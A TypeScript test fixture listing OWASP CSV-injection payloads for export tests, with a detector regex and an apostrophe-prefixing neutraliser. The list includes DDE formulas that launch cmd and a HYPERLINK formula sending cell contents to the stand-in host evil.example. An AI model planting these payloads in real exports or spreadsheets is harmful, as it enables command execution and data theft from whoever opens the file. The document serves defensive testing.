/**
 * OWASP CSV-injection payloads (owasp.org/www-community/attacks/CSV_Injection and the
 * payload lists that cite it), for unit and integration tests of every export.
 */
export const CSV_INJECTION_PAYLOADS: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1',
  '\r=1',
  '\n=1',
  "\n=cmd|' /C calc'!A0",
  "\r\n=cmd|' /C calc'!A0",
  ' =1',
  '  +1+1',
  '\u00a0=1',
  '\u200b=1',
  '\ufeff=1',
  '\0=1',
  '\u0001=1',
  '\uff1d1+1',
  '=HYPERLINK("http://x")',
  '=HYPERLINK("http://evil.example/?leak="&A1&A2, "Error: click to fix")',
  '"=1"',
  '=1+2";=1+2',
  '=1+2\'" ;,=1+2',
  'a\n=1',
  'a,b\n=1,=2',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C notepad'!'B1'",
  "-2+3+cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")A0',
  "=10+20+cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://x/?v=", A1), "//a")',
];

/**
 * csv-parse options that read a CSV as a spreadsheet does: a line break of any kind outside
 * quotes ends a record (csv-parse would otherwise keep to the first delimiter it meets).
 */
export const AS_A_SPREADSHEET = {
  bom: true,
  record_delimiter: ['\r\n', '\n', '\r'],
  relax_column_count: true,
};

// The test's own statement of what a spreadsheet evaluates, kept apart from the product's.
const LIVE_FORMULA = /^[\s\p{Cc}\p{Cf}]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r\n\0]/u;

/** True when a cell read back from an export would be evaluated by a spreadsheet. */
export function startsLikeFormula(cell: string): boolean {
  return LIVE_FORMULA.test(cell);
}

/** What an export must write for `payload`: the text itself, after a `'` when it is live. */
export function neutralised(payload: string): string {
  return startsLikeFormula(payload) ? `'${payload}` : payload;
}
